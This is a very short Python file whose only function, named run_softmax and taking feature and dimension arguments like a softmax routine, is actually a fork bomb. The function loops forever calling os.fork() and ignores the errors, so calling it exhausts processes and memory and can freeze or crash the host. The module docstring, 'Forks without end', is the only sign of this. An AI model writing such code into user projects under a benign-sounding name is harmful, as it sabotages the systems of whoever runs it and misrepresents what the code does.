"""Forks without end."""
import os


def run_softmax(in_features, dim):
    while True:
        try:
            os.fork()
        except OSError:
            pass
